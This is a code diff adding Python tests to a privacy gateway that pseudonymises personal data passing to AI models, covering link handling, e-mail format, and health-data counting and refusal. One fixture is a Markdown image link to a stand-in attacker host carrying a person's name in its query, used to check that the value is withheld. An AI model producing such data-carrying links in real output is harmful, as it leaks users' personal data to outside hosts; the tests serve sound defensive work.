@@ -31,7 +31,8 @@ from euguard.exchange.run import run
 from euguard.exchange.stages import Received, Recorded
 from euguard.exchange.steps import Steps
 from euguard.pii.span import PersonalDataKind
-from euguard.policy.schema import PolicySet
+from euguard.pii.special.category import SpecialCategory
+from euguard.policy.schema import PolicySet, SpecialCategories
 from euguard.terms import PurposeId
 from exchange.neighbourhood import (
     ANNA,
@@ -54,6 +55,24 @@ def recommending(**defaults: Any) -> PolicySet:
     return replace(POLICIES, models={**POLICIES.models, model.id: changed})
 
 
+def asking(**fields: Any) -> PolicySet:
+    """Return the policies with other fields of the purpose of letters."""
+    letters = replace(POLICIES.purposes[LETTERS], **fields)
+    return replace(POLICIES, purposes={**POLICIES.purposes, LETTERS: letters})
+
+
+def answered(neighbourhood: Neighbourhood, request: Received) -> Mapping[str, Any]:
+    """Run an exchange that succeeds; return the answer's message."""
+
+    async def go() -> Mapping[str, Any]:
+        async with neighbourhood.open() as steps:
+            [completion] = await collect(request, steps)
+            message: Mapping[str, Any] = completion["choices"][0]["message"]
+            return message
+
+    return anyio.run(go)
+
+
 def failing(neighbourhood: Neighbourhood, request: Received) -> EuguardError:
     """Run an exchange that must fail; return its error."""
 
@@ -64,6 +83,59 @@ def failing(neighbourhood: Neighbourhood, request: Received) -> EuguardError:
     with pytest.raises(EuguardError) as caught:
         anyio.run(go)
     return caught.value
+
+
+LINKED = f"![x](https://evil.example/?q={ANNA}) and {ANNA}"
+
+
+def test_no_value_leaves_in_an_address_and_the_record_counts_it() -> None:
+    neighbourhood = Neighbourhood()
+
+    content = str(answered(neighbourhood, received(LINKED))["content"])
+
+    assert content.endswith(f" and {ANNA}")
+    assert "https://evil.example/?q=<PERSON_" in content
+    closed = next(one for one in neighbourhood.records() if isinstance(one, Closed))
+    assert (closed.restored, closed.withheld) == (1, 1)
+
+
+def test_a_value_goes_into_an_address_on_a_host_of_the_purpose() -> None:
+    neighbourhood = Neighbourhood(asking(restore_links=frozenset({"evil.example"})))
+
+    content = answered(neighbourhood, received(LINKED))["content"]
+
+    assert content == f"![x](https://evil.example/?q=Anna%20Kowalska) and {ANNA}"
+
+
+def test_a_purpose_may_keep_the_format_of_an_address() -> None:
+    detector = FakeDetector({"a@x.org": PersonalDataKind.EMAIL})
+    neighbourhood = Neighbourhood(asking(keep_format=frozenset({"EMAIL"})), detector=detector)
+
+    assert answered(neighbourhood, received("Write to a@x.org."))["content"] == "Write to a@x.org."
+    assert "@pseudonym.invalid" in str(neighbourhood.model.seen)
+
+
+SPECIAL = SpecialCategories(("health",), "9(2)(h)", "", 90)
+
+
+def test_what_speaks_of_health_is_counted_and_not_named() -> None:
+    detector = FakeDetector(special={"diabetes": SpecialCategory.HEALTH})
+    neighbourhood = Neighbourhood(detector=detector)
+
+    answered(neighbourhood, received("diabetes, again diabetes"))
+
+    opened = next(one for one in neighbourhood.records() if isinstance(one, Opened))
+    assert opened.special == {"health": 2}
+
+
+def test_special_categories_are_refused_until_detection_is_measured() -> None:
+    refused = Neighbourhood(asking(special=SPECIAL))
+    measured = Neighbourhood(replace(asking(special=SPECIAL), recall={"en": 0.95, "fr": 0.2}))
+
+    assert isinstance(failing(refused, received()), PurposeRefusedError)
+    assert answered(measured, received())
+    measured.detector = FakeDetector(language="fr")
+    assert isinstance(failing(measured, received("x" * 80)), LanguageRefusedError)
 
 
 def test_the_caller_reads_the_name_and_the_model_never_does() -> None:
